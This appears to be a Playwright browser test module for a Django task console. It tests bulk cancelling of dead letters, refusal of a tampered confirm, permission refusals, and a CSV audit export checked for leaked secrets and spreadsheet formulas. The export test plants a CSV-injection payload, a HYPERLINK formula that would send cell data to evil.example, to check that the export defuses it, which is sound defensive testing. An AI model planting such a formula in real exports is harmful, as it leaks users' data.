"""Whole journeys through the console in a real browser, each ending in the database: on-call
acts in bulk on exactly the dead letters a filter shows, a confirm whose form changed since
its preview is refused in place, an auditor's CSV export holds no secret and no formula, and
a person without the permission is refused every action with nothing of its object shown.

The dead letters die in this process (``tests.console_support.dead_task``), which is quicker
than a worker and the same to the pages; no worker runs in this module.
"""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Iterator
from typing import Any

import pytest
from django.contrib.auth.models import Permission, User
from playwright.sync_api import BrowserContext, Locator, Page, expect

from tasks_app.models import Event, Task, TaskStatus
from tests.approval_support import advance, article, pending_request
from tests.browser.support import SCREENSHOTS, action_form, log_in, status_badge
from tests.factories import dead_task
from tests.rows import action_rows

pytestmark = [
    pytest.mark.browser,
    pytest.mark.timeout(120),
    pytest.mark.django_db(transaction=True),
]

PERMANENT = {"error": "permanent", "fail_first": 1}
UNKNOWN = {"error": "outcome_unknown", "fail_first": 1}
PERMANENT_ERROR = "tasks_app.exceptions.PermanentError"
# What ``.notice.error`` paints behind its text (console.css).
ERROR_BACKGROUND = "rgb(251, 233, 234)"
# What a spreadsheet would take for the start of a formula (OWASP's CSV injection list).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def statuses(tasks: list[Task]) -> dict[int, str]:
    return {task.pk: Task.objects.get(pk=task.pk).status for task in tasks}


def mark_document(page: Page) -> None:
    """Mark the document, so that :func:`same_document` can tell a reload from a swap."""
    page.evaluate("window.__sameDocument = true")


def same_document(page: Page) -> bool:
    return page.evaluate("window.__sameDocument === true") is True


def expect_error_notice(notice: Locator) -> None:
    """A refusal or failure as the console styles it, announced to a screen reader."""
    expect(notice).to_have_class(re.compile(r"\bnotice\b.*\berror\b"))
    expect(notice).to_have_attribute("role", "alert")
    expect(notice).to_have_css("background-color", ERROR_BACKGROUND)


def expect_no_template_source(page: Page) -> None:
    """Nothing of the templates' own syntax (an unclosed tag, a comment spanning lines)."""
    text = page.locator("body").inner_text()
    shown = [syntax for syntax in ("{#", "#}", "{%", "%}", "{{", "}}") if syntax in text]
    assert not shown, f"template syntax on the page: {shown}"


def expect_whole_console_page(page: Page, *, title: str, heading: str) -> None:
    """The console's page as it was: its title, its navigation, one document, one main."""
    expect(page).to_have_title(title)
    expect(page.get_by_role("navigation", name="Sections")).to_be_visible()
    expect(page.locator("h1")).to_have_count(1)
    expect(page.locator("h1")).to_have_text(heading)
    expect(page.locator("main")).to_have_count(1)
    expect_no_template_source(page)
    assert same_document(page), "the page was reloaded or replaced"


# --- 1. a bulk action on what the filter shows -------------------------------------------------


def test_oncall_cancels_exactly_the_dead_letters_the_filter_shows(page: Page, oncall: User) -> None:
    permanent = [dead_task(PERMANENT) for _ in range(2)]
    unknown = dead_task(UNKNOWN)
    log_in(page, oncall)
    page.goto("/dead/")
    results, bulk = page.locator("#results"), page.locator("#bulk")
    expect(results.locator("tbody tr")).to_have_count(3)
    mark_document(page)

    page.get_by_label("Error class").select_option(PERMANENT_ERROR)
    page.get_by_role("button", name="Filter").click()

    expect(page).to_have_url(re.compile(r"/dead/\?(.*&)?error_class=tasks_app\.exceptions\."))
    expect(results.locator("tbody tr")).to_have_count(2)
    expect(results.get_by_role("link", name=f"#{unknown.pk}", exact=True)).to_have_count(0)
    # The bulk form came with the list: it acts on the filter the list shows.
    expect(bulk).to_contain_text(f"error class {PERMANENT_ERROR}.")
    assert same_document(page), "filtering reloaded the page"

    bulk.get_by_label("Action").select_option("cancel")
    bulk.get_by_label("Reason").fill("Superseded by the new import")
    bulk.get_by_role("button", name="Preview").click()

    plan = bulk.locator(".plan")
    expect(plan).to_contain_text("Plan: Cancel 2 tasks")
    expect(plan).to_contain_text(f"error class {PERMANENT_ERROR}.")
    expect(plan.locator(".plan-tasks a")).to_have_text([f"#{task.pk}" for task in permanent])
    confirm = bulk.get_by_role("button", name="Cancel 2 tasks", exact=True)
    expect(confirm).to_be_visible()
    SCREENSHOTS.mkdir(parents=True, exist_ok=True)
    expect_no_template_source(page)
    page.screenshot(path=SCREENSHOTS / "bulk-plan.png", full_page=True)
    assert set(statuses([*permanent, unknown]).values()) == {TaskStatus.DEAD}  # only previewed

    confirm.click()

    done = bulk.locator(".notice.success")
    expect(done).to_contain_text("Cancel task: 2 tasks changed.")
    expect(done.get_by_role("link", name=re.compile(r"^#\d+$"))).to_have_text(
        [f"#{task.pk}" for task in permanent]
    )
    # The list comes with the action's answer: nothing left under this filter.
    expect(results).to_contain_text("No dead letters match.")
    expect_no_template_source(page)
    page.screenshot(path=SCREENSHOTS / "bulk-done.png", full_page=True)
    assert same_document(page)
    assert statuses([*permanent, unknown]) == {
        permanent[0].pk: TaskStatus.CANCELLED,
        permanent[1].pk: TaskStatus.CANCELLED,
        unknown.pk: TaskStatus.DEAD,
    }
    cancelled = Event.objects.filter(kind="cancelled")
    assert sorted(event.task_id or 0 for event in cancelled) == [task.pk for task in permanent]
    assert {(event.actor, event.reason) for event in cancelled} == {
        (oncall.username, "Superseded by the new import")
    }


# --- 2. a confirm whose action changed since the preview ---------------------------------------


def test_a_confirm_after_the_action_changed_is_refused_in_place_and_changes_nothing(
    page: Page, oncall: User
) -> None:
    tasks = [dead_task(PERMANENT) for _ in range(2)]
    log_in(page, oncall)
    page.goto("/dead/")
    title = page.title()
    bulk = page.locator("#bulk")
    bulk.get_by_label("Action").select_option("cancel")
    bulk.get_by_label("Reason").fill("Superseded by the new import")
    bulk.get_by_role("button", name="Preview").click()
    confirm = bulk.get_by_role("button", name="Cancel 2 tasks", exact=True)
    expect(confirm).to_be_visible()
    before = action_rows()
    mark_document(page)

    # The form is locked to its plan; one whose action changed anyway (a page served before
    # the lock, or edited) is refused by the server all the same.
    expect(bulk.get_by_label("Action")).to_be_disabled()
    bulk.locator("input[type=hidden][name=action]").evaluate(
        "(field) => { field.value = 'redrive'; }"
    )
    confirm.click()

    notice = bulk.locator(".notice.error")
    expect(notice).to_have_text(
        "Nothing changed: the action changed from Cancel task to Redrive since the preview. "
        "Preview again."
    )
    expect_error_notice(notice)
    # The form asks for a new preview; nothing of the refused plan stays to confirm.
    expect(bulk.get_by_role("button", name="Preview")).to_be_visible()
    expect(bulk.locator("input[name=plan]")).to_have_count(0)
    expect(page.locator("#bulk")).to_have_count(1)
    expect(page.locator("#results tbody tr")).to_have_count(2)
    expect_whole_console_page(page, title=title, heading="Dead letters")
    assert action_rows() == before
    assert set(statuses(tasks).values()) == {TaskStatus.DEAD}


# --- 3. the audit export ------------------------------------------------------------------------


def cells(rows: list[list[str]]) -> Iterator[str]:
    for row in rows:
        yield from row


def json_strings(value: Any) -> Iterator[str]:
    """Every string in a JSON value, keys and values, at any depth."""
    if isinstance(value, dict):
        for key, item in value.items():
            yield key
            yield from json_strings(item)
    elif isinstance(value, list):
        for item in value:
            yield from json_strings(item)
    elif isinstance(value, str):
        yield value


def test_an_auditor_exports_the_audit_log_with_no_secret_and_no_formula(
    page: Page, oncall: User, auditor: User
) -> None:
    old = {**PERMANENT, "password": "hunter2", "api_token": "abc"}
    task = dead_task(old)
    reason = '=HYPERLINK("http://evil.example/?q="&A1,"Details")'

    log_in(page, oncall)
    page.goto(f"/tasks/{task.pk}/")
    form = action_form(page, "Redrive with changes")
    payload = form.get_by_label("Payload", exact=True)
    shown = json.loads(payload.input_value())
    assert "hunter2" not in json.dumps(shown) and "abc" not in shown.values()
    # Redacted values keep what they hide: the new payload still holds both secrets.
    payload.fill(json.dumps({**shown, "fail_first": 0}))
    form.get_by_label("Reason").fill(reason)
    form.get_by_role("button", name="Redrive with changes").click()
    expect(page.locator("#task")).to_contain_text(f"Task #{task.pk}: redriven.")
    redriven = Event.objects.get(task_id=task.pk, kind="redriven")
    # What the export has to keep back is really there.
    assert redriven.reason == reason
    assert redriven.data["old_payload"] == old
    assert redriven.data["new_payload"] == {**old, "fail_first": 0}
    page.get_by_role("button", name="Log out").click()

    log_in(page, auditor)
    page.goto("/audit/")
    with page.expect_download() as download_info:
        page.get_by_role("link", name="Export CSV").click()
    download = download_info.value
    assert download.suggested_filename == "audit-log.csv"
    text = download.path().read_text(encoding="utf-8")
    *rows, head = csv.reader(io.StringIO(text, newline=""))
    assert head[0].startswith("# chain head: event ")  # the audit chain's head, last

    header = rows[0]
    recorded = ["id", "created_at", "kind", "actor", "task_id", "step_id", "reason", "data"]
    assert header[:8] == recorded  # as outside code reads them; later columns are added after
    by_kind = {row[header.index("kind")]: row for row in rows[1:]}
    exported = by_kind["redriven"]
    assert exported[header.index("task_id")] == str(task.pk)
    assert exported[header.index("reason")] == "'" + reason
    assert "hunter2" not in text
    data = json.loads(exported[header.index("data")])
    assert {"password", "api_token"} <= set(json_strings(data))  # the keys stay, the values go
    secrets = {"hunter2", "abc"}
    leaked = [
        (row[header.index("kind")], found)
        for row in rows[1:]
        for found in secrets & set(json_strings(json.loads(row[header.index("data")])))
    ]
    assert not leaked, f"secret values in the export: {leaked}"
    formulas = [cell for cell in cells(rows) if cell.startswith(FORMULA_STARTS)]
    assert not formulas, f"cells a spreadsheet would run: {formulas}"


# --- 4. refusals --------------------------------------------------------------------------------


def test_an_outsider_is_refused_every_action_and_shown_nothing_of_its_object(
    page: Page, context: BrowserContext, outsider: User, author: User
) -> None:
    dead = dead_task({**PERMANENT, "note": "payload-marker-4711"})
    review = pending_request(advance(article(actor=author)))
    actions: dict[str, dict[str, str | float | bool]] = {
        f"/tasks/{dead.pk}/redrive/": {"reason": "fixed the remote", "payload": '{"a": 1}'},
        f"/tasks/{dead.pk}/resolve/": {"reason": "checked", "outcome": "done"},
        f"/tasks/{dead.pk}/cancel/": {"reason": "not needed"},
        "/dead/bulk/": {"action": "cancel", "reason": "incident", "confirm": "1"},
        f"/approvals/{review.pk}/decide/": {
            "decision": "approve",
            "comment": "",
            "draft_hash": review.draft_hash,
        },
        "/queues/default/pause/": {"reason": "incident"},
        "/queues/default/resume/": {"reason": "over"},
    }
    # What the task page, the review and the queues page show, none of which a refusal may.
    hidden = [
        "payload-marker-4711",
        "fail_first",
        "Traceback",
        "PermanentError",
        "draft_hash",
        review.draft_hash,
        review.draft["body"],
        "<table",
    ]
    log_in(page, outsider)
    csrf = next(cookie["value"] for cookie in context.cookies() if cookie["name"] == "csrftoken")
    before = action_rows()

    answers: dict[tuple[str, bool], int] = {}
    for url, data in actions.items():
        for htmx in (False, True):
            headers = {"X-CSRFToken": csrf, **({"HX-Request": "true"} if htmx else {})}
            response = context.request.post(url, form=data, headers=headers)
            answers[url, htmx] = response.status
            body = response.text()
            assert "Not permitted" in body, (url, htmx, body[:300])
            shown = [content for content in hidden if content in body]
            assert not shown, f"{url} (htmx: {htmx}) shows {shown}"
            if htmx:
                # A notice for the page's message region, not a page.
                assert response.headers["hx-retarget"] == "#messages"
                assert "<html" not in body and "<nav" not in body
            else:
                assert "<html" in body and "<h1>Not permitted</h1>" in body

    assert set(answers.values()) == {403}, answers
    assert action_rows() == before


def test_a_refused_cancel_shows_its_reason_in_the_message_region_and_keeps_the_page(
    page: Page, oncall: User
) -> None:
    task = dead_task(PERMANENT)
    log_in(page, oncall)
    page.goto(f"/tasks/{task.pk}/")
    title, heading = page.title(), page.locator("h1").inner_text()
    form = action_form(page, "Cancel task")
    form.get_by_label("Reason").fill("Not needed any more")
    # Meanwhile an administrator takes the on-call role away: reading stays.
    oncall.groups.clear()
    oncall.user_permissions.add(Permission.objects.get(codename="view_task"))
    before = action_rows()
    mark_document(page)

    form.get_by_role("button", name="Cancel task").click()

    notice = page.locator("#messages .notice")
    expect(notice).to_contain_text("Not permitted")
    # Seen where the person is looking: the page scrolls up to it from the form.
    expect(notice).to_be_in_viewport()
    expect_error_notice(notice)
    expect_whole_console_page(page, title=title, heading=heading)
    expect(status_badge(page)).to_have_text("dead")
    expect(page.locator("#task")).to_have_count(1)
    # The form stays as it was, the reason typed in it too.
    expect(form.get_by_label("Reason")).to_have_value("Not needed any more")
    page.screenshot(path=str(SCREENSHOTS / "refused-action.png"))
    assert action_rows() == before
    assert Task.objects.get(pk=task.pk).status == TaskStatus.DEAD
